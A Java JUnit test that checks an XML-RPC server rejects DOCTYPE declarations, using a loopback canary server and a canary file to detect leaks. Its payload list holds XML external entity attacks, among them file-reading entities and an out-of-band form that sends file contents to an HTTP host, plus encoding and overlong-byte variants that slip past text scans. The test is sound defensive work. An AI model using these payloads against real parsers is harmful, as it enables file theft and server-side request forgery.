package dev.farcall.interop;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.farcall.interop.Target.Answer;
import dev.farcall.testkit.CapturedLog;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.PrintStream;
import java.net.InetAddress;
import java.net.ServerSocket;
import java.net.SocketTimeoutException;
import java.nio.charset.Charset;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.FieldSource;

/**
 * A DOCTYPE in all its forms and encodings. A server stands by that nobody may connect to, and a
 * file that nobody may read.
 */
final class DoctypeTest {

  private static final String SECRET = "canary-5e1f0a";
  private static final PrintStream STDERR = System.err;

  private final ByteArrayOutputStream printed = new ByteArrayOutputStream();

  @TempDir
  @SuppressWarnings("NullAway.Init")
  private Path folder;

  @SuppressWarnings("NullAway.Init")
  private ServerSocket canary;

  @SuppressWarnings("NullAway.Init")
  private Target target;

  @SuppressWarnings("NullAway.Init")
  private CapturedLog log;

  @BeforeEach
  void start() throws Exception {
    canary = new ServerSocket(0, 50, InetAddress.getLoopbackAddress());
    canary.setSoTimeout(1);
    Files.writeString(folder.resolve("canary"), SECRET);
    Files.writeString(folder.resolve("canary.dtd"), "<!ENTITY x '" + SECRET + "'>");
    log = CapturedLog.of("dev.farcall");
    target = Target.start(Target.Subject.class);
    System.setErr(new PrintStream(printed, true, StandardCharsets.UTF_8));
  }

  @AfterEach
  void nothingWasFetchedAndTheNextCallIsAnswered() throws Exception {
    System.setErr(STDERR);
    try (Target running = target;
        ServerSocket listening = canary;
        CapturedLog logged = log) {
      assertEquals(0, running.calls());
      // A connection that was ever made waits here.
      assertThrows(SocketTimeoutException.class, listening::accept);
      assertEquals("", printed.toString(StandardCharsets.UTF_8));
      assertFalse(logged.messages().toString().contains(SECRET));
      assertTrue(running.answers());
    }
  }

  static final List<String> FORMS =
      List.of(
          "<!DOCTYPE methodCall>",
          "<!DOCTYPE methodCall []>",
          "<!DOCTYPE methodCall [<!ENTITY x \"y\">]>",
          "<!DOCTYPE methodCall [<!ELEMENT methodCall ANY>]>",
          "<!DOCTYPE methodCall SYSTEM \"HTTP/x.dtd\">",
          "<!DOCTYPE methodCall SYSTEM \"FILE.dtd\">",
          "<!DOCTYPE methodCall PUBLIC \"-//x//y\" \"HTTP/x.dtd\">",
          "<!DOCTYPE methodCall SYSTEM \"jar:HTTP/x.jar!/y\">",
          "<!DOCTYPE methodCall SYSTEM \"netdoc:FILE.dtd\">",
          "<!DOCTYPE methodCall SYSTEM \"FTP/x.dtd\">",
          "<!DOCTYPE methodCall [<!ENTITY x SYSTEM \"FILE\">]>",
          "<!DOCTYPE methodCall [<!ENTITY x SYSTEM \"HTTP/x\">]>",
          "<!DOCTYPE methodCall [<!ENTITY % p SYSTEM \"HTTP/x.dtd\"> %p;]>",
          "<!DOCTYPE methodCall [<!ENTITY % p SYSTEM \"FILE.dtd\"> %p;]>",
          "<!DOCTYPE methodCall [<!ENTITY % f SYSTEM \"FILE\"><!ENTITY % s \"<!ENTITY x SYSTEM"
              + " 'HTTP/?%f;'>\"> %s;]>",
          "<!-- --><!DOCTYPE methodCall SYSTEM \"HTTP/x.dtd\">");

  private String doctype(String form) {
    String http = "http://127.0.0.1:" + canary.getLocalPort();
    return form.replace("HTTP", http)
        .replace("FTP", http.replace("http", "ftp"))
        .replace("FILE", folder.resolve("canary").toUri().toString());
  }

  private String document(String form) {
    String call = Target.call("m", "<string>&x;</string>");
    return doctype(form) + call.substring(call.indexOf("<methodCall>"));
  }

  private void assertRefused(int code, byte[] document) throws Exception {
    Answer answer = target.send(document);
    assertEquals(200, answer.status());
    assertEquals(code, answer.fault().code());
    assertFalse(answer.text().contains(SECRET));
  }

  @ParameterizedTest
  @FieldSource("FORMS")
  void formIsRefused(String form) throws Exception {
    Answer answer = target.send(Target.bytes(document(form)));
    assertTrue(answer.refusal().startsWith("200 -32700 a DOCTYPE is not accepted"), answer::text);
    assertFalse(answer.text().contains(SECRET));
  }

  @ParameterizedTest
  @CsvSource({
    "UTF-8, UTF-8, -32700",
    "US-ASCII, US-ASCII, -32700",
    "ISO-8859-1, ISO-8859-1, -32700",
    "UTF-16, UTF-16, -32700",
    "x-UTF-16LE-BOM, UTF-16, -32700",
    "UTF-16BE, UTF-16, -32701",
    "UTF-16LE, UTF-16, -32701",
    "UTF-32BE, UTF-32, -32701",
    "UTF-32LE, UTF-32, -32701",
    "IBM037, IBM037, -32701",
    "ISO-2022-JP, ISO-2022-JP, -32701",
    "US-ASCII, UTF-7, -32701",
    "US-ASCII, UTF-16, -32701",
    "UTF-16, UTF-8, -32701",
  })
  void encodingMakesNoDifference(String charset, String declared, int code) throws Exception {
    String declaration = "<?xml version=\"1.0\" encoding=\"" + declared + "\"?>";
    for (String form : List.of(FORMS.get(4), FORMS.get(10), FORMS.get(12))) {
      assertRefused(code, (declaration + document(form)).getBytes(Charset.forName(charset)));
    }
  }

  @ParameterizedTest
  @FieldSource("FORMS")
  void byteOrderMarkMakesNoDifference(String form) throws Exception {
    assertRefused(-32700, Target.bytes("\ufeff" + document(form)));
  }

  /** A text scan would not see it; a parser that accepts overlong forms would. */
  @ParameterizedTest
  @FieldSource("FORMS")
  void overlongBytesAreNotUtf8(String form) throws Exception {
    assertRefused(-32702, overlong(document(form)));
  }

  private static byte[] overlong(String document) throws IOException {
    ByteArrayOutputStream bytes = new ByteArrayOutputStream();
    int bracket = document.indexOf("<!DOCTYPE");
    bytes.write(Target.bytes("<?xml version=\"1.0\"?>" + document.substring(0, bracket)));
    bytes.write(0xC0);
    bytes.write(0xBC);
    bytes.write(Target.bytes(document.substring(bracket + 1)));
    return bytes.toByteArray();
  }
}
